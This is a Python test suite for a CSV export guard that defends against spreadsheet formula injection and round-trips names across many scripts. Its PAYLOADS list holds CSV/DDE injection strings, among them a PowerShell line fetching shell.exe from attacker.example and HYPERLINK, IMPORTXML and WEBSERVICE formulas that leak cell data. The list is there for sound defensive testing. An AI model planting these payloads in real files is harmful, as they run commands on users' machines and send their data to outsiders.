import csv as standard_csv
import io
import random
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frontdesk.domain.csv import RecordCounter, guard, record, unguard
from tests.thoroughness import stride

TRIGGERS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫⁼₌⁺₊⁻₋−﬩"
BLANKS = [
    "",
    " ",
    "   ",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x00",
    "\u2060",
]
# After OWASP's list, and what has been seen in reports: DDE, links, other sheets' formulas.
PAYLOADS = [
    "1+1",
    '1+1";=1+1',
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    'DDE("cmd";"/C calc";"!A0")A0',
    'HYPERLINK("https://attacker.example/?leak="&A1&A2,"Error: click here")',
    'IMPORTXML(CONCAT("https://attacker.example/?v=", CONCATENATE(A2:E2)), "//a/a10")',
    'WEBSERVICE("https://attacker.example")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "2+5+cmd|' /C calc'!A0",
    "",
]
SHAPELESS = {"Cc", "Cf", "Zl", "Zp", "Zs"}

any_text = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=30)
hostile_text = st.text(
    alphabet=st.sampled_from(sorted({"'", *"=+-@\t\r\n＝", *"".join(BLANKS), '"', ",", "a", "1"}))
)


def takes_for_formula(cell: str) -> bool:
    """The most credulous reader: skips everything without a shape, folds widths, then looks."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    visible = cell
    while visible and (visible[0].isspace() or unicodedata.category(visible[0]) in SHAPELESS):
        visible = visible[1:]
    return unicodedata.normalize("NFKC", visible)[:1] in set("=+-@\u2212")


def read(text: str) -> list[list[str]]:
    return list(standard_csv.reader(io.StringIO(text, newline=""), strict=True))


def hostile_cells(count: int) -> list[str]:
    dice = random.Random(20260101)
    return [
        "".join(dice.choices(["", "'", *BLANKS], k=dice.randrange(4)))
        + dice.choice(TRIGGERS)
        + dice.choice(["", *BLANKS, "=", "\r\n"])
        + dice.choice(PAYLOADS)
        for _ in range(count)
    ]


class TestFormulas:
    @pytest.mark.case("G9")
    def test_no_hostile_cell_is_a_formula_when_the_file_is_read_again(self) -> None:
        cells = hostile_cells(5_000)

        rows = read("".join(record([cell] * 3, number="1.00") for cell in cells))

        assert sum(map(takes_for_formula, cells)) > 3_000  # they would have been
        assert [cell for row in rows for cell in row[:3] if takes_for_formula(cell)] == []
        assert [unguard(row[1]) for row in rows] == cells

    @pytest.mark.case("G9")
    @given(hostile_text)
    def test_no_mixture_of_what_matters_is_a_formula(self, text: str) -> None:
        assert not takes_for_formula(guard(text))

    @pytest.mark.case("G9")
    def test_every_character_without_a_shape_is_seen_through(self) -> None:
        shapeless = [
            chr(number)
            for number in range(0, 0x110000, stride(quick=13))
            if unicodedata.category(chr(number)) in SHAPELESS or chr(number).isspace()
        ]

        assert [c for c in shapeless if guard(f"{c}=1+1") != f"'{c}=1+1"] == []

    @pytest.mark.case("G9")
    def test_every_character_that_folds_into_a_trigger_is_one(self) -> None:
        folding = [
            chr(number)
            for number in range(0, 0x110000, stride(quick=13))
            if unicodedata.normalize("NFKC", chr(number))[:1] in set("=+-@\u2212")
        ]

        assert [c for c in folding if guard(f"{c}1") != f"'{c}1"] == []

    @pytest.mark.parametrize(
        "text", ["", "Ann", "O'Neil", "'quoted'", "' ", "a=b", "1-2", "é", "5"]
    )
    def test_harmless_text_stays_as_it_is(self, text: str) -> None:
        assert guard(text) == text

    def test_a_number_of_ours_is_not_text(self) -> None:
        assert record(["-1"], number="-0.05") == '"\'-1",-0.05\r\n'


SCRIPTS = {
    "Latin": "Ångström Đorđe Łukasz",
    "Greek": "Ἀλέξανδρος",
    "Cyrillic": "Олег Петров",
    "Armenian": "Արամ",
    "Hebrew": "יִצְחָק",
    "Arabic": "فاطمة العلي",
    "Syriac": "ܝܘܚܢܢ",
    "Thaana": "އަހްމަދު",
    "NKo": "ߝߊ߬ߕߎ߬",
    "Devanagari": "प्रिया शर्मा",
    "Bengali": "সুমন",
    "Gurmukhi": "ਗੁਰਪ੍ਰੀਤ",
    "Gujarati": "જિગ્નેશ",
    "Odia": "ସୁଜାତା",
    "Tamil": "தமிழரசி",
    "Telugu": "వెంకట్",
    "Kannada": "ಕನ್ನಡ",
    "Malayalam": "മലയാളം",
    "Sinhala": "නිමාලි",
    "Thai": "สมชาย",
    "Lao": "ສົມພອນ",
    "Tibetan": "བསྟན་འཛིན",
    "Myanmar": "အောင်ဆန်း",
    "Georgian": "გიორგი",
    "Hangul": "김철수",
    "Ethiopic": "አበበ",
    "Cherokee": "ᏎᏉᏯ",
    "Canadian": "ᐃᓄᒃᑎᑐᑦ",
    "Ogham": "ᚑᚌᚐᚋ",
    "Runic": "ᚱᚢᚾᚨ",
    "Khmer": "សុខា",
    "Mongolian": "ᠲᠡᠮᠦᠵᠢᠨ",
    "Hiragana": "さくら",
    "Katakana": "サクラ",
    "Han": "王小明 𠮷田",
    "Bopomofo": "ㄅㄆㄇ",
    "Yi": "ꆈꌠ",
    "Javanese": "ꦗꦮ",
    "Balinese": "ᬩᬮᬶ",
    "Adlam": "𞤀𞤣𞤤𞤢𞤥",
    "Gothic": "𐌲𐌿𐍄",
    "Tifinagh": "ⴰⵎⴰⵣⵉⵖ",
    "Vietnamese, composed and not": "Nguyễn Nguyễn",
    "Egyptian": "𓀀𓂀",
}
AWKWARD = [
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇰",
    "a\x00b",
    "line one\nline two\r\nline three\rend",
    'say "hi"',
    '"',
    '""',
    '","',
    '",1\r\n"',
    "\u202eevil\u202c \u2066isolated\u2069",
    "\ufeffmarked",
    "tab\there",
    " ",
    "x" * 40_000,
    ";semi;colons;",
    "\x7f\x80\x9f\x1b[31m",
]


class TestCharacters:
    @pytest.mark.case("G10")
    @pytest.mark.feature("L3-35")
    @pytest.mark.parametrize("text", [*SCRIPTS.values(), *AWKWARD])
    def test_a_name_is_read_again_as_it_was(self, text: str) -> None:
        ((*cells, number),) = read(record([text, "", text], number="5"))

        assert [unguard(cell) for cell in cells] == [text, "", text]
        assert number == "5"

    def test_the_names_are_of_forty_scripts(self) -> None:
        assert len(SCRIPTS) >= 40

    @pytest.mark.case("G10")
    @given(st.lists(st.one_of(any_text, hostile_text), min_size=1, max_size=13))
    def test_any_record_is_read_again_as_it_was(self, texts: list[str]) -> None:
        ((*cells, number),) = read(record(texts, number="12.34"))

        assert [unguard(cell) for cell in cells] == texts
        assert number == "12.34"

    @given(st.one_of(any_text, hostile_text))
    def test_unguard_is_the_inverse_of_guard(self, text: str) -> None:
        assert unguard(guard(text)) == text


class TestRecordCounter:
    @given(st.lists(hostile_text, max_size=8), st.integers(1, 9))
    def test_it_counts_records_whatever_they_hold_and_however_they_are_cut(
        self, texts: list[str], piece_bytes: int
    ) -> None:
        content = "".join(record([text, text], number="0") for text in texts).encode()
        counter = RecordCounter()

        for begin in range(0, len(content), piece_bytes):
            counter.feed(content[begin : begin + piece_bytes])

        assert counter.count == len(texts)
